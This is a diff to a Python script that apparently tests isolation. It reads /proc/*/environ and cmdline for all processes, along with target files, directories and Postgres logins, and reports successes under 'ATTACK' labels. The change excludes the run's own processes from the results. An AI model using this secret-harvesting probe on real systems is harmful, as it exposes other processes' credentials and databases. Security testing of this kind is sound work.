@@ -20,10 +20,17 @@ def read(path):
         return f.read().decode(errors="replace")
 
 
+own = []
 for pid in os.listdir("/proc"):
     if pid.isdigit():
+        try:
+            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
+                own.append(f"/proc/{pid}/environ")  # the run's own processes: Terraform, this script
+        except OSError:
+            continue
         for part in ("environ", "cmdline"):
             attempt(f"/proc/{pid}/{part}", lambda p=f"/proc/{pid}/{part}": read(p))
+got["own"] = own
 for path in targets.get("files", []):
     attempt(path, lambda p=path: read(p))
 for path in targets.get("dirs", []):
@@ -53,7 +60,7 @@ for host, port in targets.get("tcp", []):
     for user in ("postgres", "ghapp"):
         attempt(f"{host}:{port} as {user}", lambda h=host, p=port, u=user: pg(socket.AF_INET, (h, p), u))
 
-opened = sorted(k for k, v in got.items() if isinstance(v, dict) and v.get("ok") and k != "env")
+opened = sorted(k for k, v in got.items() if isinstance(v, dict) and v.get("ok") and k not in ("env", *own))
 print("ATTACK opened:", json.dumps(opened)[:2000])
 print("ATTACK env:", json.dumps(got["env"]))
 if os.environ.get("ATTACK_REPORT"):
